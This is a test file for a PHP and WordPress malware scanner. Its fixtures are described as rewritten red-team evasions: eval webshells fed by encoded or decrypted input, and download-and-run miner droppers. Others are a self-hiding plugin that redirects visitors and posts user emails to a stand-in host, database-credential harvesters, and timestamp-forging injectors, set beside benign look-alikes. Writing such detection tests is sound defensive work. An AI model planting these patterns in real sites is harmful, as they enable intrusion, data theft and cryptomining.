import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 38: forms red team S37B wrote to slip past session 37's rules (bench/redteam/README-corpus-s37.md,
// "Evasions"), written again by us as harmless pages, with look-alikes an application may hold. Nothing here is
// copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** A deterministic blob: base64 of bytes that do not compress. */
const blob = (n: number, seed: number) => Buffer.from(Array.from({ length: n }, (_, i) => (i * 131 + seed * 7 + ((i * i) >> 3)) % 256)).toString('base64');
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const PLUGIN_HEAD = `<?php\n/*\nPlugin Name: Speed Helper\n*/\n`;
const PLUGIN_REST =
  `add_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($actions) { unset($actions['deactivate']); return $actions; });\n` +
  `add_action('template_redirect', function () { if (!is_user_logged_in() && wp_remote_retrieve_body(wp_remote_get('https://geo.example.invalid/?ip=' . $_SERVER['REMOTE_ADDR'])) === 'go') { wp_redirect('https://ads.example.invalid/'); exit; } });\n` +
  `add_action('init', function () { $u = get_users(array('fields' => array('user_email'))); wp_remote_post('https://collect.example.invalid/u', array('body' => array('u' => wp_json_encode($u)))); });\n`;

const HARVEST = (pw: string, connect: string) =>
  `<?php\n$out = fopen('found.txt', 'a');\nforeach (glob('*.txt') as $file) {\n  $c = str_replace(' ', '', file_get_contents($file));\n  if (!preg_match("/DB_USER','(.+?)'/", $c, $u) || !preg_match("/${pw}','(.+?)'/", $c, $p) || !preg_match("/DB_HOST','(.+?)'/", $c, $h)) continue;\n  ${connect}\n  if ($ok) { fwrite($out, "$h[1];$u[1];$p[1]\\n"); }\n}\n`;

const INJECTOR = (touch: string) =>
  `<?php\n/*\nPlugin Name: Fast Pages\n*/\nregister_activation_hook(__FILE__, 'fp_dates');\nadd_action('wp_enqueue_scripts', function () { if (is_admin() || current_user_can('administrator')) return; wp_enqueue_script('fp', 'https://cdn.example.invalid/fp.js', array(), null, false); });\nfunction fp_dates() { foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator(plugin_dir_path(__FILE__), FilesystemIterator::SKIP_DOTS)) as $f) ${touch}; }\n`;

/** The eval wrappers red team S37A wrote past session 37's pattern (S37A's open evasions), each given a decoded blob. */
const WRAPPED: [string, string][] = [
  ['with a second statement before the eval', `function r($c) { $c = trim($c); @eval($c); }\nr(gzinflate(base64_decode($p)));`],
  ['of two parameters, running the second', `function r($k, $c) { if ($k !== 1) return; eval($c); }\nr(1, gzinflate(base64_decode($p)));`],
  ['running its parameter with assert', `function r($c) { return @assert($c); }\nr(gzinflate(base64_decode($p)));`],
  ['in a closure with a use list', `$k = 1;\n$r = function ($c) use ($k) { if ($k) { eval($c); } };\n$r(gzinflate(base64_decode($p)));`],
  ['as a method of a class', `class W { public function go($c) { eval($c); } }\n$w = new W();\n$w->go(gzinflate(base64_decode($p)));`],
  ['given to call_user_func with its object', `class W { public function go($c) { eval($c); } }\ncall_user_func([new W(), 'go'], gzinflate(base64_decode($p)));`],
];

const MALICIOUS: [string, string, string][] = [
  ...WRAPPED.map(([how, code], i): [string, string, string] => [`an eval wrapper ${how}, given a blob gzinflate and base64_decode open`, `/var/www/html/w${i}.php`, `<?php\n$p = '${blob(3000, 10 + i)}';\n${code}\n`]),
  [
    'a page running what it decrypts from the request with eval("?>" . $code), as a template engine runs its compiled page',
    '/var/www/html/g2.php',
    `<?php\n$key = "-----BEGIN PUBLIC KEY-----\\nMIGf...\\n-----END PUBLIC KEY-----";\n$code = '';\nforeach (explode('|', $_POST['p'] ?? '') as $v) { if (openssl_public_decrypt(base64_decode($v), $d, $key)) $code .= $d; }\neval("?>" . $code);\n`,
  ],
  [
    'a page killing rival miners, downloading a program from a bare address and running it under nice',
    '/var/www/html/f2.php',
    `<?php\nfunction get($u, $to) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($ch); file_put_contents('./' . $to, $d); }\nget("http://192.0.2.10/worker", "worker");\necho shell_exec("chmod +x worker && nice -n 19 ./worker");\n`,
  ],
  [
    'a page downloading a program from a bare address by stream_copy_to_stream, making it executable and running it',
    '/var/www/html/f3.php',
    `<?php\n$in = fopen("http://192.0.2.10/worker", "rb");\n$out = fopen(__DIR__ . "/worker", "wb");\nstream_copy_to_stream($in, $out);\nfclose($out);\necho shell_exec("chmod 755 worker; ./worker");\n`,
  ],
  ['a WordPress plugin hiding itself by a key it keeps in a global, removing its Deactivate link, sending its users away and redirecting its visitors', '/var/www/html/wp-content/plugins/x/x.php', `${PLUGIN_HEAD}$GLOBALS['sh_me'] = plugin_basename(__FILE__);\nadd_filter('all_plugins', function ($plugins) { unset($plugins[$GLOBALS['sh_me']]); return $plugins; });\n${PLUGIN_REST}`],
  ['a WordPress plugin hiding itself by a constant holding its key, and the rest of the planted plugin', '/var/www/html/wp-content/plugins/y/y.php', `${PLUGIN_HEAD}define('SH_ME', plugin_basename(__FILE__));\nadd_filter('all_plugins', function ($plugins) { unset($plugins[SH_ME]); return $plugins; });\n${PLUGIN_REST}`],
];

const SUSPICIOUS: [string, string, string][] = [
  ['a harvester matching DB_PASS, a name some applications use, and logging in with mysqli_connect', '/var/www/html/h1.php', HARVEST('DB_PASS', '$ok = @mysqli_connect($h[1], $u[1], $p[1]);')],
  ['a harvester logging in by `new mysqli;` then real_connect', '/var/www/html/h2.php', HARVEST('DB_PASSWORD', '$db = new mysqli; $ok = @$db->real_connect($h[1], $u[1], $p[1]);')],
  ['a theme header printing what a server sends, the base64 of its address starting with a space', '/var/www/html/wp-content/themes/t/header.php', `<html><body>\n<?php echo file_get_contents(base64_decode(' ${b64('https://links.example.invalid/backlinks.php')}')); ?>\n`],
  ['a theme header printing what a server sends, its address in capitals hidden in base64', '/var/www/html/wp-content/themes/t/footer.php', `<html><body>\n<?php echo file_get_contents(base64_decode('${b64('HTTPS://LINKS.EXAMPLE.INVALID/b.php')}')); ?>\n`],
  ['a theme header printing what a server sends, its address hidden in hex of capitals', '/var/www/html/wp-content/themes/t/sidebar.php', `<html><body>\n<?php echo file_get_contents(hex2bin('${Buffer.from('HTTP://links.example.invalid/b.php').toString('hex')}')); ?>\n`],
  ['an injector setting its files 90 days back by time() - 60*60*24*90', '/var/www/html/wp-content/plugins/fast/a.php', INJECTOR('touch($f->getPathname(), time() - 60*60*24*90)')],
  ['an injector giving its files the time of wp-load.php', '/var/www/html/wp-content/plugins/fast/b.php', INJECTOR(`touch($f->getPathname(), filemtime(ABSPATH . 'wp-load.php'))`)],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a test helper asserting what a function gives, beside a base64 fixture image it decodes',
    '/var/www/html/tests/helper.php',
    `<?php\n$png = '${blob(3000, 40)}';\nfunction check($ok, $msg = '') { assert($ok); if (!$ok) echo $msg; }\ncheck(strlen(base64_decode($png)) > 100, 'image');\n`,
  ],
  [
    'a template class running a compiled page with eval("?>" . $code) and a base64 logo it prints',
    '/var/www/html/tpl3.php',
    `<?php\nclass View { public function show($code) { eval('?>' . $code); } }\n$logo = '${blob(3000, 41)}';\n(new View())->show(file_get_contents(__DIR__ . '/cache/page.php'));\necho '<img src="data:image/png;base64,' . $logo . '">';\n`,
  ],
  [
    'a template engine running its compiled page with eval("?>" . $code), and a session cookie decrypted with openssl_decrypt',
    '/var/www/html/tpl2.php',
    `<?php\n$sess = openssl_decrypt($_COOKIE['s'] ?? '', 'aes-256-gcm', getenv('APP_KEY'), 0, str_repeat("\\0", 12));\n$code = file_get_contents(__DIR__ . '/cache/page.php');\neval("?>" . $code);\n`,
  ],
  [
    'a deploy hook downloading a release over https, making its runner executable and starting it under nice',
    '/var/www/html/deploy.php',
    `<?php\nif (PHP_SAPI !== 'cli') exit;\nfile_put_contents(__DIR__ . '/runner', file_get_contents('https://releases.example.com/runner'));\necho shell_exec('chmod +x runner && nice -n 10 ./runner --version');\n`,
  ],
  [
    'a restore tool giving files their archive time, and a sitemap plugin adding its vendor script for visitors',
    '/var/www/html/wp-content/plugins/restore/restore.php',
    `<?php\n/*\nPlugin Name: Restore\n*/\nadd_action('wp_enqueue_scripts', function () { if (is_user_logged_in()) return; wp_enqueue_script('s', 'https://cdn.example.com/s.js'); });\nforeach (glob(__DIR__ . '/restore/*') as $src) { $to = ABSPATH . basename($src); copy($src, $to); touch($to, filemtime($src)); }\n`,
  ],
  [
    'a white-label plugin hiding the plugin a constant names, not itself',
    '/var/www/html/wp-content/plugins/wl2/wl2.php',
    `<?php\n/*\nPlugin Name: White Label\n*/\ndefine('WL_TARGET', 'other-plugin/other.php');\nadd_filter('all_plugins', function ($plugins) { unset($plugins[WL_TARGET]); return $plugins; });\n`,
  ],
];

describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 11));
  for (const [name, path, src] of SUSPICIOUS) {
    it(`flagged: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'clean', why(r));
    });
  }
  it('ran every suspicious form', () => assert.equal(SUSPICIOUS.length, 7));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 6));
  it('reads a function head followed by a megabyte of spaces in bounded time, and finds nothing there', () => {
    const r = scan(`<?php\n$p = '${blob(3000, 50)}';\n$x = gzinflate(base64_decode($p));\neval($y);\nfunction${' '.repeat(1_000_000)}(`, '/var/www/html/sp.php');
    assert.notEqual(r.verdict, 'malicious', why(r));
  });
});
